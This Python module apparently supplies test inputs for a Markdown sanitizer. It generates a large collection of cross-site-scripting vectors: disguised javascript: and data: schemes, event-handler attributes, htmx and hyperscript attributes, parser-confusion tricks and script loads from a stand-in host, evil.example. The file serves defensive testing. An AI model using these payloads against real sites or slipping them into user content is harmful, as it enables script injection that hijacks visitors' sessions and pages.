"""Hostile Markdown, made here: every way we know to smuggle a scheme, an attribute or an element into a post."""

from collections.abc import Iterator

CALL = "alert(1)"
SCHEMES = ("javascript:", "JaVaScRiPt:", "vbscript:", "data:text/html,", "livescript:", "file:///", "blob:", "about:")
BLANKS = ("", " ", "\u00a0", "\u3000", "\t", "\u200b", "\u2028", "\ufeff", "\x01", "&nbsp;", "&Tab;", "&#10;", "&#x09;")
SPELLINGS = (
    "java&#115;cript:alert(1)", "java&#x73;cript:alert(1)", "&#106;avascript:alert(1)", "javascript&colon;alert(1)",
    "javascript&#58;alert(1)", "java\tscript:alert(1)", "java&NewLine;script:alert(1)", "java%73cript:alert(1)",
    "java\\script:alert(1)", "java\x00script:alert(1)", "jav\u0131script:alert(1)", "ｊavascript:alert(1)",
    "//evil.example/x.js", "///evil.example", "\\\\evil.example", "/\\evil.example", "?x=1", "#x", "./x", "../x",
    "http:javascript:alert(1)", "https:/\\evil.example", "javascript://%0aalert(1)",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "data:;base64,PHNjcmlwdD4=", "javascript:/*--></title></style>*/alert(1)", "/media/../admin", "/media/1/x",
    "/media/12345678-1234-1234-1234-123456789abc/../../x", "/media/12345678-1234-1234-1234-123456789abc?x=1",
)  # fmt: skip
FORMS = (
    "[text]({url})", "[text](<{url}>)", '[text]({url} "title")', "![alt]({url})", "![alt](<{url}> 'title')",
    "<{url}>", "[text][ref]\n\n[ref]: {url}", "[ref]\n\n[ref]: <{url}> 'title'", '<a href="{url}">x</a>',
    "<img src='{url}'>", "<iframe src={url}></iframe>",
)  # fmt: skip
# One a line; ↵ stands for a line end inside.
HTML = r"""
<script>alert(1)</script>
<ScRiPt src=//evil.example></sCrIpT>
<script↵>alert(1)</script↵>
<img src=x onerror=alert(1)>
<img/src=x/onerror=alert(1)>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<body onload=alert(1)>
<div style='background:url(javascript:alert(1))'>x</div>
<p style=x:expression(alert(1))>x</p>
<style>*{x:y}</style>
<link rel=stylesheet href=//evil.example>
<meta http-equiv=refresh content='0;url=javascript:alert(1)'>
<base href=//evil.example>
<form action=javascript:alert(1)><button>x</button></form>
<button formaction=javascript:alert(1)>x</button>
<input onfocus=alert(1) autofocus>
<details open ontoggle=alert(1)>x</details>
<video><source onerror=alert(1)></video>
<object data=javascript:alert(1)></object>
<embed src=javascript:alert(1)>
<math><mi xlink:href=javascript:alert(1)>x</mi></math>
<a href=x onclick=alert(1)>x</a>
<p hx-get=/x hx-trigger=load>x</p>
<p data-hx-get=/x data-hx-trigger=load>x</p>
<p hx-on:click=alert(1)>x</p>
<div hx-vals='js:{x:alert(1)}'>x</div>
<p _='on load alert(1)'>x</p>
<p id=csrf class=button>x</p>
<!--><script>alert(1)</script>-->
<![CDATA[<script>alert(1)</script>]]>
<?xml version=1?><script>alert(1)</script>
<noscript><p title='</noscript><img src=x onerror=alert(1)>'>
<template><script>alert(1)</script></template>
<xmp><script>alert(1)</script>
<textarea></textarea><script>alert(1)</script>
<title><script>alert(1)</script></title>
<plaintext><script>alert(1)</script>
&lt;script&gt;alert(1)&lt;/script&gt;
<a name=x><a href=javascript:alert(1)>y
<img srcset='javascript:alert(1) 1x'>
<table background=javascript:alert(1)><td>x</table>
<marquee onstart=alert(1)>x</marquee>
<isindex action=javascript:alert(1)>
"""
MARKDOWN = r"""
```<script>↵alert(1)↵```
```js onload=alert(1)↵x↵```
``` " onmouseover=alert(1) x="↵x↵```
    <script>alert(1)</script>
`<script>alert(1)</script>`
# <script>alert(1)</script>
> <img src=x onerror=alert(1)>
- <svg onload=alert(1)>
| <script>alert(1)</script> | b |↵|:-:|--:|↵| <img src=x onerror=alert(1)> | javascript:alert(1) |
~~<script>alert(1)</script>~~
**<b onclick=alert(1)>x</b>**
![<script>alert(1)</script>](https://a.example/x.png)
![" onerror="alert(1)](https://a.example/x.png)
![' onerror='alert(1)](/media/12345678-1234-1234-1234-123456789abc)
[" onclick="alert(1)](https://a.example)
[x](https://a.example/"onclick="alert(1))
[x](https://a.example 'a" onclick="alert(1)')
[x](https://a.example/'><script>alert(1)</script>)
<https://a.example/"onmouseover=alert(1)>
[<img src=x onerror=alert(1)>](https://a.example)
[a]: javascript:alert(1)↵[a]↵↵![a]
[x](↵javascript:alert(1)↵)
[x](javascript:alert(1)
[[x](javascript:alert(1))](javascript:alert(2))
\<script>alert(1)\</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
&#60;script&#62;alert(1)&#60;/script&#62;
<ſcript>alert(1)</ſcript>
﹤script﹥alert(1)
<mailto:a@b.example?body=<script>alert(1)</script>>
[x](mailto:a@b.example%22onclick=alert(1))
"""


def vectors() -> Iterator[str]:
    """All of them, no two alike."""
    seen: set[str] = set()
    for text in (*_linked(), *_lines(HTML), *_lines(MARKDOWN)):
        if text not in seen:
            seen.add(text)
            yield text


def _lines(block: str) -> Iterator[str]:
    return (line.replace("↵", "\n") for line in block.strip("\n").split("\n"))


def _linked() -> Iterator[str]:
    for form in FORMS:
        for scheme in SCHEMES:
            yield form.replace("{url}", scheme + CALL)
        for blank in BLANKS:
            yield form.replace("{url}", blank + "javascript:" + CALL)
        for spelling in SPELLINGS:
            yield form.replace("{url}", spelling)
